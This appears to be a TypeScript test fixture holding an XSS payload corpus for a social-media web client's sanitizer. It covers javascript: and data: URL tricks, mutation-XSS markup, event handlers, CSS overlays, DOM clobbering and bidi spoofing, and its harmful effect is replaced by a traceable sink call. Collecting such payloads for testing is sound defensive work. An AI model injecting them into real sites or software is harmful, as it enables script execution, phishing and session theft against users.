// The XSS corpus of issue #10: HTML and URLs a hostile server (or user) can send. `XSS()` in a
// payload becomes a call to the page's sink, `__xss(<id>)`, so a payload that runs names itself.

export interface Payload {
  id: number;
  name: string;
  /** HTML (for content) or a URL (for href/src fields), with `XSS()` already replaced by the sink call. */
  value: string;
}

const sink = (id: number) => `__xss(${id})`;

/** URLs for href/src: schemes, encodings, whitespace and invisible characters inside the scheme. */
const URLS: [string, string][] = [
  ['javascript:', 'javascript:XSS()'],
  ['JaVaScRiPt: mixed case', 'JaVaScRiPt:XSS()'],
  ['javascript: leading space', ' javascript:XSS()'],
  ['javascript: tab in scheme', 'java\tscript:XSS()'],
  ['javascript: newline in scheme', 'java\nscript:XSS()'],
  ['javascript: zero-width space in scheme', 'java\u200Bscript:XSS()'],
  ['javascript: zero-width joiner in scheme', 'java\u200Dscript:XSS()'],
  ['javascript: leading control char', '\u0001javascript:XSS()'],
  ['javascript: entity j', '&#106;avascript:XSS()'],
  ['javascript: hex entities', '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;XSS()'],
  ['javascript: entity colon', 'javascript&colon;XSS()'],
  ['javascript: percent-encoded', 'javascript%3AXSS()'],
  ['javascript: void then call', 'javascript:void(0);XSS()'],
  ['javascript: comment-wrapped', 'javascript://%0aXSS()'],
  ['vbscript:', 'vbscript:XSS()'],
  ['data:text/html', 'data:text/html,<script>XSS()</script>'],
  ['data:text/html base64', `data:text/html;base64,${Buffer.from('<script>XSS()</script>').toString('base64')}`],
  ['data:image/svg+xml', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="XSS()"/>'],
  ['data:application/javascript', 'data:application/javascript,XSS()'],
  ['DATA:text/html upper case', 'DATA:text/html,<script>XSS()</script>'],
  ['blob: forged', 'blob:https://evil.example/0b0e2b2e-0000-0000-0000-000000000000'],
  ['file:', 'file:///etc/passwd'],
  ['filesystem:', 'filesystem:https://evil.example/temporary/x'],
  ['about:blank', 'about:blank'],
  ['chrome:', 'chrome://settings'],
  ['ftp:', 'ftp://evil.example/x'],
  ['protocol-relative', '//evil.example/x.js'],
  ['backslash host', '/\\evil.example/x'],
  ['intent:', 'intent://x#Intent;scheme=javascript:XSS();end'],
  ['bidi override in https URL', 'https://evil.example/\u202Egpj.exe'],
];

/** HTML a remote server can send in status content, bios and profile fields. */
const HTML: [string, string][] = [
  ['script tag', '<script>XSS()</script>'],
  ['script src', '<script src="data:application/javascript,XSS()"></script>'],
  ['img onerror', '<img src=x onerror="XSS()">'],
  ['img onerror unquoted', '<img src=x onerror=XSS()>'],
  ['img onload data', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="XSS()">'],
  ['svg onload', '<svg onload="XSS()"></svg>'],
  ['svg animate', '<svg><animate onbegin="XSS()" attributeName="x" dur="1s"></animate></svg>'],
  ['svg set href', '<svg><a><set attributeName="href" to="javascript:XSS()"/><text y="20">click</text></a></svg>'],
  ['svg use xlink:href', '<svg><use xlink:href="data:image/svg+xml,<svg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\'><image href=\'1\' onerror=\'XSS()\'/></svg>#x"></use></svg>'],
  ['svg a xlink:href', '<svg><a xlink:href="javascript:XSS()"><text y="20">svg link</text></a></svg>'],
  ['svg script', '<svg><script>XSS()</script></svg>'],
  ['svg foreignObject', '<svg><foreignObject><img src=x onerror="XSS()"></foreignObject></svg>'],
  ['math mtext mglyph', '<math><mtext><table><mglyph><style><img src=x onerror="XSS()"></style></mglyph></table></mtext></math>'],
  ['math href', '<math href="javascript:XSS()"><mi>x</mi></math>'],
  ['math maction', '<math><maction actiontype="statusline#http://x" xlink:href="javascript:XSS()">click</maction></math>'],
  ['mXSS noscript title', '<noscript><p title="</noscript><img src=x onerror=XSS()>"></p></noscript>'],
  ['mXSS svg style', '<svg><style><img src=x onerror="XSS()"></style></svg>'],
  ['mXSS svg p style', '<svg></p><style><a id="</style><img src=x onerror=XSS()>"></a></style></svg>'],
  ['mXSS math style', '<math><style><img src=x onerror="XSS()"></style></math>'],
  ['mXSS form nesting', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="XSS()">'],
  ['mXSS template', '<template><img src=x onerror="XSS()"></template>'],
  ['mXSS xmp', '<xmp><img src=x onerror="XSS()"></xmp>'],
  ['mXSS textarea', '<textarea><img title="</textarea><img src=x onerror=XSS()>"></textarea>'],
  ['mXSS title', '<title><img title="</title><img src=x onerror=XSS()>"></title>'],
  ['mXSS noembed', '<noembed><img title="</noembed><img src=x onerror=XSS()>"></noembed>'],
  ['mXSS comment', '<!--><img src=x onerror="XSS()">-->'],
  ['mXSS cdata', '<svg><![CDATA[><img src=x onerror=XSS()>]]></svg>'],
  ['mXSS select', '<select><template><style><img src=x onerror="XSS()"></style></template></select>'],
  ['mXSS table', '<table><a href="javascript:XSS()">tabled link</a></table>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>parent.XSS()</script>"></iframe>'],
  ['iframe javascript', '<iframe src="javascript:parent.XSS()"></iframe>'],
  ['iframe data', '<iframe src="data:text/html,<script>XSS()</script>"></iframe>'],
  ['object data', '<object data="data:text/html,<script>XSS()</script>"></object>'],
  ['embed src', '<embed src="data:text/html,<script>XSS()</script>">'],
  ['frameset', '<frameset onload="XSS()"></frameset>'],
  ['body onload', '<body onload="XSS()">'],
  ['details ontoggle', '<details open ontoggle="XSS()"><summary>s</summary></details>'],
  ['input autofocus onfocus', '<input autofocus onfocus="XSS()">'],
  ['marquee onstart', '<marquee onstart="XSS()">m</marquee>'],
  ['video onerror', '<video src=x onerror="XSS()"></video>'],
  ['video poster', '<video poster="javascript:XSS()"></video>'],
  ['audio onerror', '<audio src=x onerror="XSS()"></audio>'],
  ['source onerror', '<video><source src=x onerror="XSS()"></video>'],
  ['picture srcset', '<picture><source srcset="javascript:XSS()"><img src="https://evil.example/a.png"></picture>'],
  ['img srcset', '<img srcset="javascript:XSS() 1x, https://evil.example/a.png 2x">'],
  ['img srcset data svg', '<img srcset="data:image/svg+xml,<svg onload=XSS()> 1x">'],
  ['img src data svg', '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'XSS()\'/>">'],
  ['image tag', '<image src=x onerror="XSS()">'],
  ['form action', '<form action="javascript:XSS()"><button>go</button></form>'],
  ['input formaction', '<form><input type="submit" formaction="javascript:XSS()" value="go"></form>'],
  ['button formaction', '<button formaction="javascript:XSS()">go</button>'],
  ['isindex action', '<isindex action="javascript:XSS()" type="image">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:XSS()">'],
  ['meta refresh data', '<meta http-equiv="refresh" content="0;url=data:text/html,<script>XSS()</script>">'],
  ['meta csp override', '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">'],
  ['base href', '<base href="javascript:XSS()//">'],
  ['base href remote', '<base href="https://evil.example/">'],
  ['link import', '<link rel="import" href="data:text/html,<script>XSS()</script>">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['link prefetch', '<link rel="prefetch" href="https://evil.example/track">'],
  ['style tag fixed', '<style>.t-status{position:fixed!important;inset:0}</style>'],
  ['style tag import', '<style>@import "https://evil.example/x.css";</style>'],
  ['style attr fixed', '<span style="position:fixed;inset:0;z-index:9999;background:red">style-fixed overlay</span>'],
  ['style attr sticky', '<p style="position:sticky;top:0">style-sticky</p>'],
  ['style attr expression', '<span style="width:expression(XSS())">expression</span>'],
  ['style attr url javascript', '<span style="background:url(javascript:XSS())">bg</span>'],
  ['style attr behavior', '<span style="behavior:url(x.htc);-moz-binding:url(x.xml#xss)">binding</span>'],
  ['style attr entity-escaped', '<span style="position&#58;fixed;inset:0">entity-style</span>'],
  ['a style', '<a href="https://evil.example/" style="position:fixed;top:0;left:0;width:100vw;height:100vh;display:block">a-style overlay</a>'],
  ['class t-modal-root', '<span class="t-modal-root">Your session expired, sign in again</span>'],
  ['class t-alerts', '<span class="t-alerts">Fake alert</span>'],
  ['class t-loading-bar', '<span class="t-loading-bar">bar</span>'],
  ['class t-tab-bar', '<span class="t-tab-bar">tabs</span>'],
  ['class t-emoji-dropdown', '<span class="t-emoji-dropdown">emoji</span>'],
  ['class t-feed__pill-slot', '<span class="t-feed__pill-slot">pill</span>'],
  ['class w-chunk-failure', '<span class="w-chunk-failure">chunk</span>'],
  ['class w-compose-button', '<span class="w-compose-button">compose</span>'],
  ['class w-skip', '<a class="w-skip" href="https://evil.example/">skip</a>'],
  ['class mixed with mention', '<a class="mention t-modal-root u-url" href="https://evil.example/@x">@x</a>'],
  ['class on p', '<p class="t-modal-root">modal p</p>'],
  ['a javascript', '<a href="javascript:XSS()">click me</a>'],
  ['a javascript entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;XSS()">entities</a>'],
  ['a javascript tab', '<a href="jav&#x09;ascript:XSS()">tab</a>'],
  ['a javascript newline entity', '<a href="jav&#x0A;ascript:XSS()">newline</a>'],
  ['a javascript zero-width', '<a href="java\u200Bscript:XSS()">zwsp</a>'],
  ['a data html', '<a href="data:text/html,<script>XSS()</script>">data</a>'],
  ['a onclick', '<a href="https://evil.example/" onclick="XSS()">onclick</a>'],
  ['a onmouseover', '<a href="https://evil.example/" onmouseover="XSS()">hover</a>'],
  ['a ping', '<a href="https://evil.example/" ping="https://evil.example/track">ping</a>'],
  ['a target opener', '<a href="https://evil.example/" target="_top">top</a>'],
  ['a download', '<a href="https://evil.example/x.exe" download="invoice.pdf">download</a>'],
  ['area href', '<map name="m"><area shape="rect" coords="0,0,99,99" href="javascript:XSS()"></map>'],
  ['event handler uppercase', '<IMG SRC=x ONERROR="XSS()">'],
  ['event handler with slash', '<img/src=x/onerror=XSS()>'],
  ['event handler backtick', '<img src=x onerror=`XSS()`>'],
  ['null byte tag', '<scr\u0000ipt>XSS()</scr\u0000ipt>'],
  ['unclosed img', '<img src=x onerror="XSS()"'],
  ['nested script', '<scr<script>ipt>XSS()</scr</script>ipt>'],
  ['attribute breakout', '<span title="a" onmouseover="XSS()" x="">title</span>'],
  ['id clobbering', '<span id="root">clobber</span><form id="initial-state"><input name="textContent"></form>'],
  ['name clobbering', '<img name="getElementById"><a id="__xss" href="https://evil.example/">clobber</a>'],
  ['contenteditable', '<span contenteditable="true">editable</span>'],
  ['dialog open', '<dialog open>dialog from content</dialog>'],
  ['popover', '<div popover="auto" id="p">popover</div><button popovertarget="p">show</button>'],
  ['custom element is', '<button is="x-evil" onclick="XSS()">is</button>'],
  ['shadowroot template', '<div><template shadowrootmode="open"><img src=x onerror="XSS()"></template></div>'],
  ['xml namespace', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">XSS()</x:script>'],
  ['svg namespace confusion', '<svg><p><style><img src=x onerror="XSS()"></p></svg>'],
  ['bidi override text', '<p>\u202Etxt.exe\u202C and \u2066isolated\u2069 text</p>'],
  ['bidi in link text', '<a href="https://evil.example/">https://good.example/\u202Eexe.gpj</a>'],
  ['zero-width in mention', '<a class="mention" href="https://evil.example/@ad\u200Bmin">@ad\u200Bmin</a>'],
  ['lookalike invisible', '<span class="invisible">https://</span><span class="ellipsis">evil.example/\u2063</span>'],
  ['huge text', `<p>${'W'.repeat(2000)}</p>`],
];

/** Plain text a local user types (status, name, bio, fields, poll options, alt text, content warnings). */
const TEXT: [string, string][] = [
  ['text: script', '<script>XSS()</script>'],
  ['text: img onerror', '"><img src=x onerror=XSS()>'],
  ['text: javascript url', 'javascript:XSS()'],
  ['text: bidi override', '\u202Egnp.exe\u202C'],
  ['text: zero-width joiners', 'java\u200Dscript:XSS()'],
  ['text: entity', '&#106;avascript:XSS() &lt;b&gt;'],
  ['text: template literal', '${XSS()} {{XSS()}}'],
  ['text: markdown link', '[click](javascript:XSS())'],
];

let nextId = 0;
const build = (entries: [string, string][], prefix: string): Payload[] =>
  entries.map(([name, value]) => {
    nextId += 1;
    return { id: nextId, name: `${prefix}${name}`, value: value.replaceAll('XSS()', sink(nextId)) };
  });

const attribute = (value: string) => value.replace(/&(?![#a-zA-Z0-9]+;)/g, '&amp;').replace(/"/g, '&quot;');

export const URL_PAYLOADS: Payload[] = build(URLS, 'url: ');
export const HTML_PAYLOADS: Payload[] = [
  ...build(HTML, 'html: '),
  // Every URL payload in the two places content most often carries one.
  ...build(URLS.map(([name, url]) => [name, `<a href="${attribute(url)}">link ${name}</a>`]), 'a[href] '),
  ...build(URLS.map(([name, url]) => [name, `<img src="${attribute(url)}" alt="img ${name}">`]), 'img[src] '),
];
export const TEXT_PAYLOADS: Payload[] = build(TEXT, '');

export const ALL_PAYLOADS: Payload[] = [...URL_PAYLOADS, ...HTML_PAYLOADS, ...TEXT_PAYLOADS];

export function payloadById(id: string | number): Payload | undefined {
  return ALL_PAYLOADS.find((payload) => String(payload.id) === String(id));
}

/** Each payload behind a visible marker `⟦id⟧`, so a finding in the DOM can be traced to it. */
export const marked = (payload: Payload): string => `<p>⟦${payload.id}⟧</p>${payload.value}`;

/** Splits payloads into groups of `size` (one status each). */
export function chunks<T>(items: readonly T[], size: number): T[][] {
  const out: T[][] = [];
  for (let index = 0; index < items.length; index += size) out.push(items.slice(index, index + size));
  return out;
}
